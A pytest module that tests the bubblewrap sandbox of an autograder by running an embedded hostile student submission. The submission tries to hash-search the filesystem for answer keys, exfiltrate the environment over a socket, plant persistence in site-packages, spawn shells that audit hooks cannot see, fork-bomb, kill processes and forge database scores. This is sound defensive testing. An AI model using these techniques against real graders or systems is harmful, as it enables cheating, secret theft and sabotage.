"""The OS sandbox against a hostile submission: one test per attack class of the sandbox issue.

A correct solution whose ``ReLU.forward`` and ``Sigmoid.forward`` first run the
attacks (once per worker process), print what each one achieved as ``ATTACK
[name, result]`` lines,
and then returns the right answer. One grading run serves the tests of this
module; each test checks one attack class against that report and against the
machine (files that must not exist, processes that must not survive, a
listener that must hear nothing). Each test fails on a grader without the
sandbox (a child process under the grader's own user). The batch, link,
ingest and Gradescope attacks need runs of their own, below.
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import signal
import socket
import sqlite3
import subprocess
import sys
import sysconfig
import textwrap
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from conftest import require_program
from grader.term import batch
from grader.cli import cli
from grader.course.grading import grade
from grader.student.engine.model import GradeReport
from grader.student.feedback.report import format_text
from grader.student.sandbox.runner import Limits
from grader.course.solution import write_solution
from grader.student.store import Store

ROOT = Path(__file__).resolve().parents[3]
SANDBOX = Limits(wall_s=60.0, sandbox=True)
SELECTION = ["activations.ReLU", "activations.Sigmoid", "linear.Linear"]


@pytest.fixture(autouse=True)
def _needs_bubblewrap() -> None:
    require_program("bwrap", "bubblewrap")


def answer_files() -> list[Path]:
    """Every file that reveals an expected value: the reference, mistake variants, the instructor-only checks
    and kernel emulations, the solution writer, the locked quizzes and their sources."""
    files = [p for p in (ROOT / "reference").rglob("*") if p.suffix in (".py", ".cl")]
    files += list((ROOT / "grader" / "mistakes").glob("*.py"))
    files += [
        ROOT / "grader" / "course" / name for name in ("solution.py", "live_checks.py", "packs.py")
    ]  # emulation: reference/
    files += list((ROOT / "quizzes" / "source").glob("*")) + list((ROOT / "quizzes").glob("*.json"))
    return [p for p in files if p.is_file() and p.stat().st_size > 200]


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


ATTACKS = r'''
import hashlib, json, os, socket, sys, time

_DONE = []


def _try(results, name, action):
    try:
        results[name] = action()
    except BaseException as exc:
        results[name] = f"refused: {type(exc).__name__}: {exc}"[:300]


def _write(path, text="import os\n"):
    with open(path, "a") as f:
        f.write(text)
    return "written"


def _walk_for_answers():
    """Every .py/.cl/.toml/.json file visible here with an answer file's size is hashed; report the answers."""
    seen, found = 0, []
    for top in ("/",):
        for folder, dirs, files in os.walk(top):
            if folder in ("/proc", "/sys", "/dev", "/job/submission"):  # the student's own files
                dirs[:] = []
                continue
            for name in files:
                if not name.endswith((".py", ".cl", ".toml", ".json")):
                    continue
                path = os.path.join(folder, name)
                try:
                    seen += 1
                    if os.path.getsize(path) not in ANSWER_SIZES:
                        continue
                    with open(path, "rb") as f:
                        data = f.read()
                except OSError:
                    continue
                if hashlib.sha256(data).hexdigest() in ANSWER_DIGESTS:
                    found.append(path)
    return {"files_hashed": seen, "answers_found": found}


def _read_by_dir_fd():
    fd = os.open(PROJECT, os.O_RDONLY | os.O_DIRECTORY)
    try:
        inner = os.open("reference/activations.py", os.O_RDONLY, dir_fd=fd)
        return os.read(inner, 100000).decode(errors="replace")[:2000]
    finally:
        os.close(fd)


def _proc_secrets():
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as f:
                    data = f.read()
            except OSError:
                continue
            if SECRET.encode() in data or DB_NAME.encode() in data:
                found.append(f"{pid}/{part}")
    return {"pids": sorted(p for p in os.listdir("/proc") if p.isdigit()), "found": found}


def _network():
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
        s.sendall(("leak " + json.dumps(dict(os.environ))).encode())
    return "sent"


def _spawn(argv):
    """Start a program through an interface no audit hook sees, and return what it printed."""
    import _posixsubprocess
    out_r, out_w = os.pipe()
    err_r, err_w = os.pipe()
    pid = _posixsubprocess.fork_exec(
        [a.encode() for a in argv], [argv[0].encode()], True, (err_w,), None, None,
        -1, -1, -1, out_w, -1, out_w, err_r, err_w, True, False, -1, None, None, None, -1, None, False)
    os.close(out_w)
    os.close(err_w)
    chunks = []
    while True:
        chunk = os.read(out_r, 65536)
        if not chunk:
            break
        chunks.append(chunk)
    os.waitpid(pid, 0)
    return b"".join(chunks).decode(errors="replace")[:3000]


def _program():
    return _spawn(["/bin/sh", "-c", f"id -u; cat {PROJECT}/reference/activations.py {PROJECT}/quizzes/source/*.toml 2>&1 | head -c 3000"])


DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        fd = os.open("/dev/null", os.O_RDWR)
        for n in (0, 1, 2):
            os.dup2(fd, n)
        with open("/proc/self/comm", "w") as f:
            f.write(NAME)
        while True:
            time.sleep(0.05)
    os._exit(0)
print("started")
"""


def _daemon():
    return _spawn([sys.executable, "-c", f"NAME = {DAEMON_NAME!r}\n" + DAEMON]).strip()


FORK_BOMB = """
import json, os, time
children = []
try:
    for _ in range(300):
        pid = os.fork()
        if pid == 0:
            os.close(1)
            time.sleep(3)
            os._exit(0)
        children.append(pid)
    print(json.dumps({"forked": len(children), "stopped_by": None}))
except OSError as exc:
    print(json.dumps({"forked": len(children), "stopped_by": str(exc)}))
os.close(1)
"""


def _fork_many():
    return json.loads(_spawn([sys.executable, "-c", FORK_BOMB]).strip().splitlines()[-1])


def _report(name, action):
    try:
        result = action()
    except BaseException as exc:
        result = f"refused: {type(exc).__name__}: {exc}"[:300]
    print("ATTACK " + json.dumps([name, result]), flush=True)


def run_attacks(part):
    """The attacks, split over two exercises so that each stays well inside its time limit."""
    if part in _DONE:
        return
    _DONE.append(part)
    if part == "walk":
        _report("answers", _walk_for_answers)
        return
    for target in PERSISTENCE:
        _report("persist " + target, lambda t=target: _write(t))
    _report("read by path", lambda: open(PROJECT + "/reference/activations.py").read()[:2000])
    _report("read by dir fd", _read_by_dir_fd)
    _report("proc", _proc_secrets)
    _report("environment", lambda: [k for k, v in os.environ.items() if SECRET in v])
    _report("network", _network)
    _report("program", _program)
    _report("daemon", _daemon)
    _report("fork", _fork_many)
    _report("uid", os.getuid)


_Relu, _Sigmoid = ReLU, Sigmoid


class ReLU(_Relu):
    def forward(self, x):
        run_attacks("walk")
        return super().forward(x)


class Sigmoid(_Sigmoid):
    def forward(self, x):
        run_attacks("rest")
        return super().forward(x)
'''


class Listener:
    """A TCP listener on a loopback port that records every connection it gets."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(1 << 16))
                except OSError:
                    self.received.append(b"(connected)")

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.sock.close()


def persistence_targets() -> list[Path]:
    """Where a submission would plant code that the next grading run executes in the trusted parent."""
    site = Path(sysconfig.get_paths()["purelib"])
    return [
        site / "zz_normgrade_attack.pth",
        site / "sitecustomize.py",
        site / "numpy" / "__init__.py",
        ROOT / "grader" / "__pycache__" / f"ops.{sys.implementation.cache_tag}.pyc",
        Path.home() / ".normgrade_attack_rc",
    ]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Grade the hostile submission once; what it printed, the report, and the machine's side of things."""
    require_program("bwrap", "bubblewrap")
    tmp = tmp_path_factory.mktemp("hostile")
    folder = write_solution(tmp / "exercises")
    secret = "s3cr3t-" + secrets.token_hex(8)
    daemon_name = "ngd" + secrets.token_hex(4)
    listener = Listener()
    targets = persistence_targets()
    before = {t: (digest(t) if t.exists() else None) for t in targets}
    constants = textwrap.dedent(f"""
        PROJECT = {str(ROOT)!r}
        SECRET = {secret!r}
        DB_NAME = "hostile-class.db"
        PORT = {listener.port}
        DAEMON_NAME = {daemon_name!r}
        PERSISTENCE = {[str(t) for t in targets]!r}
        ANSWER_DIGESTS = {sorted({digest(p) for p in answer_files()})!r}
        ANSWER_SIZES = {sorted({p.stat().st_size for p in answer_files()})!r}
    """)
    source = folder / "activations.py"
    source.write_text(source.read_text() + constants + ATTACKS)
    old = os.environ.get("NORMGRADE_TEST_SECRET")
    os.environ["NORMGRADE_TEST_SECRET"] = secret
    try:
        report = grade(folder, SELECTION, "mallory", SANDBOX)
    finally:
        if old is None:
            del os.environ["NORMGRADE_TEST_SECRET"]
        else:
            os.environ["NORMGRADE_TEST_SECRET"] = old
        listener.close()
    after = {t: (digest(t) if t.exists() else None) for t in targets}
    for target in targets:  # undo whatever an unsandboxed run managed, so later tests are not poisoned
        if before[target] is None and target.exists():
            target.unlink()
    attacked = [e for e in report.exercises if e.id in ("activations.ReLU", "activations.Sigmoid")]
    results = dict(
        json.loads(line[len("ATTACK ") :])
        for e in attacked
        for line in e.output.splitlines()
        if line.startswith("ATTACK ")
    )
    assert "answers" in results and "uid" in results, [(e.id, e.status, e.message, e.output[:500]) for e in attacked]
    survivors = [p for p in Path("/proc").iterdir() if p.name.isdigit() and _comm(p) == daemon_name]
    for p in survivors:
        try:
            os.kill(int(p.name), signal.SIGKILL)
        except OSError:
            pass
    return {
        "report": report,
        "results": results,
        "secret": secret,
        "listener": listener.received,
        "before": before,
        "after": after,
        "survivors": survivors,
    }


def _comm(proc: Path) -> str:
    try:
        return (proc / "comm").read_text().strip()
    except OSError:
        return ""


def everything_shown(report: GradeReport) -> str:
    """All the text the grader would show or store for this report."""
    return format_text(report) + json.dumps(report.to_json()) + "".join(e.output + e.message for e in report.exercises)


def reference_marker() -> str:
    """A line of the reference's activations.py that no stub or report contains."""
    lines = [line.strip() for line in (ROOT / "reference" / "activations.py").read_text().splitlines()]
    return max((line for line in lines if "return" in line and "np." in line), key=len)


def test_the_hostile_submission_is_still_graded(hostile: dict[str, Any]) -> None:
    results = {e.id: e for e in hostile["report"].exercises}
    for exercise in SELECTION:
        assert results[exercise].status == "passed", (exercise, results[exercise].message)
    assert hostile["report"].sandboxed


def test_persistence_into_site_packages_pycache_and_home(hostile: dict[str, Any]) -> None:
    assert hostile["after"] == hostile["before"]
    for name, outcome in hostile["results"].items():
        if name.startswith("persist "):
            assert str(outcome).startswith("refused:"), (name, outcome)


def test_no_answer_file_is_visible_inside(hostile: dict[str, Any]) -> None:
    answers = hostile["results"]["answers"]
    assert answers["files_hashed"] > 500  # the walk really ran over Python and its packages
    assert answers["answers_found"] == []


def test_reading_the_reference_by_path_and_by_directory_handle(hostile: dict[str, Any]) -> None:
    for attack in ("read by path", "read by dir fd"):
        assert str(hostile["results"][attack]).startswith("refused:"), hostile["results"][attack]
    assert reference_marker() not in everything_shown(hostile["report"])


def test_the_grader_is_invisible_in_proc(hostile: dict[str, Any]) -> None:
    proc = hostile["results"]["proc"]
    assert proc["found"] == []
    assert len(proc["pids"]) < 20  # a PID namespace of its own: only the sandbox's processes


def test_the_environment_is_not_copied(hostile: dict[str, Any]) -> None:
    assert hostile["results"]["environment"] == []
    assert hostile["secret"] not in everything_shown(hostile["report"])


def test_no_network(hostile: dict[str, Any]) -> None:
    assert str(hostile["results"]["network"]).startswith("refused:")
    assert hostile["listener"] == []


def test_a_started_program_is_inside_the_sandbox_too(hostile: dict[str, Any]) -> None:
    output = str(hostile["results"]["program"])
    assert reference_marker() not in output
    assert "[[question]]" not in output and "answer" not in output.lower()
    uid = output.split()[0] if output and not output.startswith("refused") else None
    assert uid is None or uid != "0"


def test_a_daemon_in_its_own_session_dies_with_the_job(hostile: dict[str, Any]) -> None:
    assert hostile["results"]["daemon"] == "started"
    assert hostile["survivors"] == []


def test_processes_are_limited(hostile: dict[str, Any]) -> None:
    fork = hostile["results"]["fork"]
    assert fork["stopped_by"] is not None and fork["forked"] < 300


def test_the_worker_runs_as_a_user_that_owns_nothing(hostile: dict[str, Any]) -> None:
    uid = hostile["results"]["uid"]
    assert uid != 0 and uid != os.getuid()


# --- classmates in a batch ------------------------------------------------------------


CLASSMATE_ATTACK = r"""
import os, signal, sqlite3

_DONE = []


def _attack():
    if _DONE:
        return
    _DONE.append(1)
    seen = {}
    for name, action in (
        ("read", lambda: open(VICTIM).read()[:100]),
        ("append", lambda: open(VICTIM, "a").write("\nraise SystemExit('sabotaged')\n")),
        ("database", lambda: sqlite3.connect(DB).execute("UPDATE submissions SET score = max_score").connection.commit()),
        ("kill", lambda: [os.kill(int(p), signal.SIGKILL) for p in os.listdir("/proc") if p.isdigit() and int(p) > 2 and int(p) != os.getpid()]),
    ):
        try:
            seen[name] = str(action())[:100]
        except BaseException as exc:
            seen[name] = "refused " + type(exc).__name__
    print("CLASSMATE", seen)


_Relu = ReLU


class ReLU(_Relu):
    def forward(self, x):
        _attack()
        return super().forward(x)
"""


def test_a_classmate_cannot_read_use_change_or_kill_others_nor_write_the_database(tmp_path: Path) -> None:
    root = tmp_path / "class"
    victims = [write_solution(root / name / "exercises") for name in ("amy", "bob")]
    before = [digest(v / "activations.py") for v in victims]
    eve = write_solution(root / "eve" / "exercises")
    db = tmp_path / "class.db"
    Store.open(db).close()
    constants = f"VICTIM = {str(victims[0] / 'activations.py')!r}\nDB = {str(db)!r}\n"
    (eve / "activations.py").write_text((eve / "activations.py").read_text() + constants + CLASSMATE_ATTACK)
    with Store.open(db) as store:
        summary = batch.run_batch(root, store, "test", SELECTION, jobs=2, limits=SANDBOX)
        outcomes = {o.student: o for o in summary.outcomes}
        assert {o.status for o in outcomes.values()} == {"graded"}, outcomes
        assert outcomes["amy"].score == outcomes["amy"].max_score
        assert outcomes["bob"].score == outcomes["bob"].max_score
        rows = store.submissions(student="eve")
    assert [digest(v / "activations.py") for v in victims] == before
    relu = next(r for r in rows if r["exercise"] == "activations.ReLU")
    assert "CLASSMATE" in relu["output"]
    for attack in ("read", "append", "database"):
        assert f"'{attack}': 'refused" in relu["output"], relu["output"]
    with sqlite3.connect(db) as conn:  # nobody's scores were rewritten
        forged = conn.execute(
            "SELECT count(*) FROM submissions WHERE score = max_score AND status != 'passed'"
        ).fetchone()
    assert forged == (0,)


# --- what is handed in -------------------------------------------------------------------


def test_symbolic_and_hard_links_are_refused(tmp_path: Path) -> None:
    classmate = write_solution(tmp_path / "classmate")
    folder = write_solution(tmp_path / "exercises")
    (folder / "activations.py").unlink()
    (folder / "activations.py").symlink_to(os.path.relpath(classmate / "activations.py", folder))
    (folder / "linear.py").unlink()
    os.link(classmate / "linear.py", folder / "linear.py")
    report = grade(folder, SELECTION, "eve", SANDBOX)
    results = {e.id: e for e in report.exercises}
    assert results["activations.ReLU"].status == "error" and results["activations.ReLU"].score == 0
    assert "activations.py is a symbolic link" in results["activations.ReLU"].message
    assert results["linear.Linear"].status == "error"
    assert "linear.py has 2 hard links" in results["linear.Linear"].message


def test_a_huge_sparse_file_is_refused_before_reading(tmp_path: Path) -> None:
    folder = write_solution(tmp_path / "exercises")
    with open(folder / "normalization.py", "r+b") as f:
        f.truncate(1 << 40)  # a terabyte of holes: reading it would take hours
    from grader.student.errors import GraderError

    with pytest.raises(GraderError, match="normalization.py is 1099511627776 bytes"):
        grade(folder, SELECTION, "eve", SANDBOX)


def test_a_huge_file_costs_that_student_only_in_a_batch(tmp_path: Path) -> None:
    root = tmp_path / "class"
    write_solution(root / "amy" / "exercises")
    big = write_solution(root / "zed" / "exercises")
    with open(big / "normalization.py", "r+b") as f:
        f.truncate(1 << 40)
    with Store.open(tmp_path / "class.db") as store:
        summary = batch.run_batch(root, store, "test", ["linear"], jobs=1, limits=SANDBOX)
        outcomes = {o.student: o for o in summary.outcomes}
        assert outcomes["amy"].status == "graded"
        assert outcomes["zed"].status == "error" and "1 MiB" in outcomes["zed"].message
        assert {r["status"] for r in store.submissions(student="zed")} == {"error"}


def test_ten_thousand_junk_files_are_refused_unread(tmp_path: Path) -> None:
    folder = write_solution(tmp_path / "exercises")
    junk = folder / "junk"
    junk.mkdir()
    for i in range(10_000):
        (junk / f"f{i}.py").write_bytes(b"")
    from grader.student.errors import GraderError

    with pytest.raises(GraderError, match="hand in only your exercises folder"):
        grade(folder, SELECTION, "eve", SANDBOX)


def test_deeply_nested_source_is_an_error_for_its_file_only(tmp_path: Path) -> None:
    folder = write_solution(tmp_path / "exercises")
    (folder / "activations.py").write_text(
        "x = " + "-" * 200_000 + "1\n" + "y = " + "(" * 100_000 + ")" * 100_000 + "\n"
    )
    report = grade(folder, SELECTION, "eve", SANDBOX)
    results = {e.id: e for e in report.exercises}
    assert results["activations.ReLU"].status == "error"
    assert results["linear.Linear"].status == "passed"


# --- what comes back -----------------------------------------------------------------------


def test_invalid_unicode_and_escape_sequences_are_stored_and_shown_safely(tmp_path: Path) -> None:
    folder = write_solution(tmp_path / "exercises")
    attack = (
        "\n_Relu = ReLU\n\nclass ReLU(_Relu):\n    def forward(self, x):\n"
        "        print('\\x1b[2J\\x1b[H' + 'Total: 340/340 (100.0%)')\n"
        "        raise ValueError('\\udcff\\x1b[2J\\x1b[1;1HTotal: 340/340 \\r\\x07')\n"
    )
    (folder / "activations.py").write_text((folder / "activations.py").read_text() + attack)
    report = grade(folder, SELECTION, "eve", SANDBOX)
    text = format_text(report)
    assert "\x1b" not in text and "\r" not in text and "\x07" not in text
    shown = everything_shown(report)
    assert "\x1b" not in shown
    shown.encode("utf-8")  # no lone surrogate
    with Store.open(tmp_path / "p.db") as store:
        store.record_report(report, "test")
        assert store.submissions(student="eve")


def test_a_folder_name_that_is_not_utf8_is_recorded_escaped(tmp_path: Path) -> None:
    root = tmp_path / "class"
    root.mkdir()
    write_solution(Path(os.fsdecode(bytes(root) + b"/caf\xe9")) / "exercises")
    write_solution(root / "amy" / "exercises")
    with Store.open(tmp_path / "class.db") as store:
        summary = batch.run_batch(root, store, "test", ["linear"], jobs=1, limits=SANDBOX)
        assert {o.status for o in summary.outcomes} == {"graded"}
        assert sorted(store.students()) == ["amy", "caf\\udce9"]


def test_a_formula_as_a_student_name_is_neutralised_in_the_csv(tmp_path: Path) -> None:
    from grader.term import class_report

    root = tmp_path / "class"
    write_solution(root / '=HYPERLINK("http:x")' / "exercises")
    with Store.open(tmp_path / "class.db") as store:
        batch.run_batch(root, store, "test", ["linear"], jobs=1, limits=SANDBOX)
        csv_text = class_report.format_csv(class_report.build(store))
    import csv
    import io

    names = [row[0] for row in csv.reader(io.StringIO(csv_text))][1:]
    assert names == ['\'=HYPERLINK("http:x")']


def test_a_killed_gradescope_run_leaves_a_valid_results_json(tmp_path: Path) -> None:
    folder = write_solution(tmp_path / "exercises")
    (folder / "activations.py").write_text(
        (folder / "activations.py").read_text()
        + textwrap.dedent("""
        _Relu = ReLU
        class ReLU(_Relu):
            def forward(self, x):
                while True:
                    pass
    """)
    )
    results = tmp_path / "results" / "results.json"
    command = [
        sys.executable,
        "-c",
        "from grader.cli import main; main()",
        "submit",
        "activations.ReLU",
        "--path",
        str(folder),
        "--format",
        "gradescope",
        "-o",
        str(results),
    ]
    proc = subprocess.Popen(command, cwd=tmp_path, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        for _ in range(600):  # bounded wait for the placeholder (written before grading starts)
            if results.exists() or proc.poll() is not None:
                break
            time.sleep(0.05)
        proc.kill()
    finally:
        proc.wait()
    document = json.loads(results.read_text())
    assert document["score"] == 0.0
    assert "did not finish" in document["output"]


def test_batch_refuses_to_start_without_the_sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from grader.student.sandbox import bwrap

    write_solution(tmp_path / "class" / "amy" / "exercises")
    monkeypatch.setattr(bwrap, "problem", lambda: "bubblewrap is not installed (apt-get install bubblewrap)")
    result = CliRunner().invoke(cli, ["batch", str(tmp_path / "class"), "linear", "--db", str(tmp_path / "c.db")])
    assert result.exit_code == 2
    assert "bubblewrap is not installed" in result.output and "--no-sandbox" in result.output
    result = CliRunner().invoke(
        cli, ["batch", str(tmp_path / "class"), "linear", "--db", str(tmp_path / "c.db"), "--no-sandbox"]
    )
    assert result.exit_code == 0, result.output
    with Store.open(tmp_path / "c.db") as store:
        assert store.attempts("amy")[-1]["grader_version"].endswith("+no-sandbox")


def test_workers_started_before_the_probe_failed_are_replaced_not_used(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """`grade submit` starts its workers in the sandbox while the sandbox probe runs (a guess: bubblewrap is
    installed). When the probe then says the sandbox cannot run here, those workers are closed and the
    exercises run on fresh ones without it, with the usual note; here every sandbox fails to start."""
    from grader.student.sandbox import bwrap

    write_solution(tmp_path / "exercises")
    monkeypatch.setattr(bwrap, "start_probe", lambda: True)
    monkeypatch.setattr(bwrap, "problem", lambda: "bubblewrap cannot create a sandbox here: no user namespaces")
    monkeypatch.setattr(bwrap, "wrap", lambda command, *args, **kwargs: ["/bin/false"])
    result = CliRunner().invoke(
        cli, ["submit", "activations.ReLU", "--path", str(tmp_path / "exercises"), "--db", str(tmp_path / "p.db")]
    )
    assert result.exit_code == 0, result.output
    assert "Note: the OS sandbox is off (bubblewrap cannot create a sandbox here: no user namespaces)" in result.stderr
    assert "PASSED" in result.stdout and "activations.ReLU" in result.stdout


# --- the command line -------------------------------------------------------------------------


def test_the_bwrap_command_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What both ways of running the sandbox ask bubblewrap for (CI runs as root: this covers the other way)."""
    from grader.student.sandbox import bwrap

    env = bwrap.environment(bwrap.BUNDLE_MOUNT)
    assert set(env) >= {"PATH", "HOME", "PYTHONPATH"} and "NORMGRADE_TEST_SECRET" not in env
    for euid in (0, 1000):
        monkeypatch.setattr(os, "geteuid", lambda euid=euid: euid)
        argv = bwrap.wrap(["python", "-m", "grader.student.sandbox.worker"], tmp_path, 1 << 20, env)
        assert {
            "--unshare-pid",
            "--unshare-net",
            "--unshare-ipc",
            "--unshare-uts",
            "--die-with-parent",
            "--new-session",
            "--clearenv",
        } <= set(argv)
        assert argv[argv.index("--ro-bind", argv.index(str(tmp_path)) - 1) + 2] == bwrap.JOB_MOUNT
        mounted = [argv[i + 1] for i, a in enumerate(argv) if a == "--ro-bind"]
        assert not any(m == str(ROOT) or m.startswith(str(ROOT / "reference")) for m in mounted)
        bundle = [
            argv[i + 2] for i, a in enumerate(argv) if a == "--ro-bind" and argv[i + 2].startswith(bwrap.BUNDLE_MOUNT)
        ]
        bundled = sorted(str(Path(b).relative_to(f"{bwrap.BUNDLE_MOUNT}/grader")) for b in bundle)
        assert bundled == sorted(bwrap.WORKER_MODULES)
        if euid == 0:  # root keeps mount rights, the worker drops to a random uid that owns nothing
            setpriv = argv.index("--") + 1
            assert Path(argv[setpriv]).name == "setpriv" and argv[setpriv + 1].startswith("--reuid=")
            assert int(argv[setpriv + 1].split("=")[1]) >= bwrap.SANDBOX_UID_RANGE[0]
        else:  # a user: a user namespace of its own, no nested ones
            assert {"--unshare-user", "--disable-userns"} <= set(argv)
            assert argv[argv.index("--uid") + 1] == "65534"
            assert "setpriv" not in " ".join(argv[argv.index("--") :])


def test_an_environment_the_sandbox_cannot_read_is_named(tmp_path: Path) -> None:
    """Run as root, the worker's uid owns nothing: a private virtual environment is said, not half-used."""
    if os.geteuid() != 0:
        pytest.skip("only root runs the worker under a uid of its own")
    venv = tmp_path / "private-venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    venv.chmod(0o700)
    purelib = subprocess.run(
        [str(venv / "bin" / "python"), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout.strip()
    Path(purelib, "deps.pth").write_text(sysconfig.get_paths()["purelib"] + "\n")
    done = subprocess.run(
        [str(venv / "bin" / "python"), "-c", "from grader.student.sandbox import bwrap; print(bwrap.problem())"],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        timeout=120,
    )
    assert "cannot read the Python environment" in done.stdout and "chmod" in done.stdout, done.stdout + done.stderr


def test_loose_kernel_files_of_an_upload_are_ingested_as_kernels(tmp_path: Path) -> None:
    """A Gradescope upload of loose files: top-level .cl files count as kernels/, through the same checks."""
    from grader.student.sandbox.ingest import read_submission

    (tmp_path / "rmsnorm.cl").write_text("__kernel void k() {}\n")
    (tmp_path / "linear.py").write_text("x = 1\n")
    os.symlink(tmp_path / "rmsnorm.cl", tmp_path / "layernorm.cl")
    loose = read_submission(tmp_path, kernels_at_top=True)
    assert sorted(loose.files) == ["kernels/rmsnorm.cl", "linear.py"]
    assert "layernorm.cl is a symbolic link" in loose.refused["layernorm.cl"]
    assert sorted(read_submission(tmp_path).files) == ["linear.py"]  # an exercises folder keeps kernels/ only


# --- the folder the grader is started from -------------------------------------------------------


PEEK_ATTACK = r'''
_PEEKED = []


def _peek():
    """Read each of PEEK by its absolute path and list each of PEEK_DIRS; print what was seen."""
    if _PEEKED:
        return
    _PEEKED.append(1)
    import json, os
    for path in PEEK:
        try:
            with open(path, "rb") as f:
                seen = f.read(4000).decode(errors="replace")
        except BaseException as exc:
            seen = "refused " + type(exc).__name__
        print("PEEK " + json.dumps([path, seen]), flush=True)
    for folder in PEEK_DIRS:
        try:
            seen = sorted(os.listdir(folder))
        except BaseException as exc:
            seen = "refused " + type(exc).__name__
        print("PEEK " + json.dumps([folder, seen]), flush=True)


_Relu = ReLU


class ReLU(_Relu):
    def forward(self, x):
        _peek()
        return super().forward(x)
'''


def peeking_student(folder: Path, files: list[Path], dirs: list[Path]) -> Path:
    """A correct solution at ``folder`` whose ReLU first reads ``files`` and lists ``dirs`` (absolute paths)."""
    write_solution(folder)
    constants = f"\nPEEK = {[str(f) for f in files]!r}\nPEEK_DIRS = {[str(d) for d in dirs]!r}\n"
    (folder / "activations.py").write_text((folder / "activations.py").read_text() + constants + PEEK_ATTACK)
    return folder


def submit_from(cwd: Path, folder: Path, db: Path, exercises: list[str]) -> tuple[str, list[dict[str, Any]]]:
    """`python -m grader submit` started in ``cwd`` (so sys.path[0] is ``cwd``): its printed text and the stored
    rows."""
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT)] + [p for p in [os.environ.get("PYTHONPATH")] if p])}
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "grader",
            "submit",
            *exercises,
            "--path",
            str(folder),
            "--student",
            "eve",
            "--db",
            str(db),
        ],
        cwd=cwd,
        env=env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode in (0, 1), done.stdout + done.stderr
    with Store.open(db) as store:
        rows = store.submissions(student="eve")
    return done.stdout + done.stderr, rows


def peeked(rows: list[dict[str, Any]]) -> dict[str, str]:
    """What the peeking student saw: its PEEK lines, path -> what it read (or "refused <exception>")."""
    relu = next(r for r in rows if r["exercise"] == "activations.ReLU")
    lines = [
        json.loads(line[len("PEEK ") :]) for line in (relu["output"] or "").splitlines() if line.startswith("PEEK ")
    ]
    assert lines, relu  # the attack ran
    return {path: str(seen) for path, seen in lines}


def test_the_course_folder_the_grader_is_started_from_is_not_visible_inside(tmp_path: Path) -> None:
    """`python -m grader submit` run in a course folder: its class database, marks and classmates stay unseen."""
    course = tmp_path / "course"
    token = "marks-" + secrets.token_hex(8)
    classmate_token = "amy-" + secrets.token_hex(8)
    course.mkdir()
    (course / "marks.csv").write_text(f"student,score\namy,{token}\n")
    amy = write_solution(course / "submissions" / "amy" / "exercises")
    (amy / "linear.py").write_text((amy / "linear.py").read_text() + f"\n# {classmate_token}\n")
    db = course / "class.db"
    eve = peeking_student(
        course / "submissions" / "eve" / "exercises",
        [course / "marks.csv", amy / "linear.py", db],
        [course, course / "submissions"],
    )
    shown, rows = submit_from(course, eve, db, ["activations.ReLU"])
    seen = peeked(rows)
    assert sorted(seen) == sorted(
        map(str, [course / "marks.csv", amy / "linear.py", db, course, course / "submissions"])
    )
    assert all(what.startswith("refused ") for what in seen.values()), seen
    for text in (json.dumps(rows), shown):
        assert token not in text and classmate_token not in text
    assert token.encode() not in db.read_bytes() and classmate_token.encode() not in db.read_bytes()
    assert {r["status"] for r in rows} == {"passed"}


@pytest.mark.opencl
def test_started_in_tmp_the_sandbox_keeps_a_writable_tmp_of_its_own_and_opencl(tmp_path: Path) -> None:
    """Started in /tmp itself (a script there, or `python -m` with /tmp as current directory), /tmp is the
    grader's sys.path[0]: the sandbox's own /tmp stays writable, so PoCL keeps its cache there and an OpenCL
    exercise is graded, and another user's world-readable files in /tmp stay unseen."""
    import tempfile

    from grader.student.sandbox import bwrap

    token = "tmp-" + secrets.token_hex(8)
    with tempfile.TemporaryDirectory(dir=bwrap.SCRATCH, prefix="normgrade-other-user-") as other:
        os.chmod(other, 0o755)
        secret = Path(other) / "notes.txt"
        secret.write_text(token + "\n")
        secret.chmod(0o644)
        eve = peeking_student(tmp_path / "exercises", [secret], [Path(other)])
        shown, rows = submit_from(
            Path(bwrap.SCRATCH), eve, tmp_path / "progress.db", ["activations.ReLU", "kernels.relu_forward"]
        )
    statuses = {r["exercise"]: (r["status"], r["message"]) for r in rows}
    assert statuses["kernels.relu_forward"][0] == "passed", statuses
    assert statuses["activations.ReLU"][0] == "passed", statuses
    assert peeked(rows) == {str(secret): "refused FileNotFoundError", other: "refused FileNotFoundError"}
    assert token not in json.dumps(rows) and token not in shown
